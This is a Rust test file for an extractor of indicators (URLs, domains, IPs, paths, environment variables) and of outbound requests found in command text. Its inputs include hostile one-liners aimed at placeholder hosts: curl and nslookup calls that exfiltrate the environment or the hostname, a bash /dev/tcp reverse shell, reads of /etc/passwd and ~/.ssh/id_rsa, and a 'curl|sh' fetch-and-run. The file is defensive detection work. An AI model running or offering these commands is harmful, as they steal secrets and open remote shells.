use super::*;

fn found(text: &str) -> Vec<String> {
    extract(text).iter().map(|one| format!("{}:{}", one.kind().name(), one.value())).collect()
}

#[test]
fn a_beacon_command() {
    assert_eq!(
        found(r#"curl "http://telemetry-hub.example/beacon" -d "host=$(hostname)""#),
        ["url:http://telemetry-hub.example/beacon", "domain:telemetry-hub.example", "path:/beacon"]
    );
    assert_eq!(
        found(
            "curl -fsS https://cdn.example/v1/c?k=$(env|base64 -w0) -o /dev/null; : part=X{m0d3l_"
        ),
        ["url:https://cdn.example/v1/c?k=", "domain:cdn.example", "path:/v1/c"]
    );
    assert_eq!(
        found("nslookup $(hostname).b.updates.example 203.0.113.9"),
        ["domain:b.updates.example", "ip:203.0.113.9"]
    );
    assert_eq!(
        found("import os\nrequests.post('https://198.51.100.7:8443/x', json=dict(os.environ))"),
        ["url:https://198.51.100.7:8443/x", "ip:198.51.100.7", "path:/x"]
    );
    assert_eq!(found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), ["ip:192.0.2.1"]);
}

#[test]
fn hosts_and_their_innocent_neighbours() {
    assert_eq!(
        found("dig +short 01.6b65.{x}.sync-weights.example"),
        ["domain:sync-weights.example"]
    );
    assert_eq!(found("host=hub.acme.io port=443"), ["domain:hub.acme.io"]);
    assert_eq!(found("query: api.acme.com."), ["domain:api.acme.com"]);
    assert_eq!(found("10.0.1.50:51514 -> 203.0.113.80:443"), ["ip:10.0.1.50", "ip:203.0.113.80"]);
    assert_eq!(found("SRC=10.0.0.1 DST=2001:db8::7"), ["ip:10.0.0.1", "ip:2001:db8::7"]);
    assert_eq!(found("to [2001:db8::7]:443"), ["ip:2001:db8::7"]);
    assert_eq!(
        found("ops@acme.example logged in"),
        ["account:ops@acme.example", "domain:acme.example"]
    );
    for innocent in [
        "model.pkl config.json weights.h5 setup.py libx.so README.md",
        "self.weights os.path numpy.core torch.nn.functional",
        "self.net logger.info(x) layer.name tf.io x.to(device) user.id",
        "from sklearn.test import local",
        "torch==2.1.0.1 version 1.2.3.4 Chrome/120.0.0.0 v10.1.2.3",
        "12:34:56 a[::2] std::vector 00:1a:2b:3c:4d:5e",
        "e.g. this, i.e. that etc.",
        "</div> a / b s/foo/bar/ and/or 2026/03/05 text/html",
        "costs $5 or 100%",
        "encoder.layer.0.weight encoder.layer.11.attention.self.query",
    ] {
        assert_eq!(found(innocent), Vec::<String>::new(), "{innocent}");
    }
}

#[test]
fn paths_and_variables() {
    assert_eq!(
        found("cat /etc/passwd ~/.ssh/id_rsa > /tmp/.x"),
        ["path:/etc/passwd", "path:~/.ssh/id_rsa", "path:/tmp/.x"]
    );
    assert_eq!(
        found(r#"os.environ['AWS_KEY'] + os.getenv("HF_TOKEN") + $HOME ${USER:-x} %APPDATA%"#),
        ["env:AWS_KEY", "env:HF_TOKEN", "env:HOME", "env:USER", "env:APPDATA"]
    );
    assert_eq!(found(r"type C:\Users\x\a.txt"), [r"path:C:\Users\x\a.txt"]);
}

fn sent(text: &str) -> Vec<String> {
    requests(text)
        .iter()
        .map(|one| {
            let keys = one.body_keys.join(",");
            let port = one.port.map_or("-".to_owned(), |port| port.to_string());
            format!("{} {}://{}:{port}{} {keys}", one.method, one.scheme, one.host, one.path)
                .trim_end()
                .to_owned()
        })
        .collect()
}

#[test]
fn requests_of_commands() {
    for (text, expected) in [
        (
            r#"curl "http://hub.example/beacon" -d "host=$(hostname)""#,
            "POST http://hub.example:80/beacon host",
        ),
        ("curl -sXPUT https://h.example:8443/a?x=1", "PUT https://h.example:8443/a x"),
        (
            "curl -fsS https://h.example/v1/c?k=$(env|base64 -w0) -o /dev/null",
            "GET https://h.example:443/v1/c k",
        ),
        ("wget -qO- --post-data='u=1&v=2' http://192.0.2.9/in", "POST http://192.0.2.9:80/in u,v"),
        (
            "sh -c 'curl -F file=@/etc/passwd 192.0.2.9:8000/up'",
            "POST http://192.0.2.9:8000/up file",
        ),
        ("curl h.example|sh", "GET http://h.example:80/"),
        (
            "import requests\nrequests.post('https://h.example/x', json={'env': dict(os.environ), 'n': {'q': 1}})",
            "POST https://h.example:443/x env,n",
        ),
        (
            "urllib.request.urlopen('http://h.example/c', data=b'id=1')",
            "POST http://h.example:80/c id",
        ),
        ("urllib.request.urlopen('http://h.example/c').read()", "GET http://h.example:80/c"),
    ] {
        assert_eq!(sent(text), [expected], "{text}");
    }
    assert_eq!(sent("echo curl is a tool; see README.md"), Vec::<String>::new());
}

#[test]
fn hostile_text_ends() {
    extract(&"$(".repeat(10_000));
    extract(&"http://".repeat(10_000));
    extract(&"a@".repeat(10_000));
    extract("\u{fffd}://\u{fffd}/\u{fffd}");
    requests(&"curl $(".repeat(2_000));
}
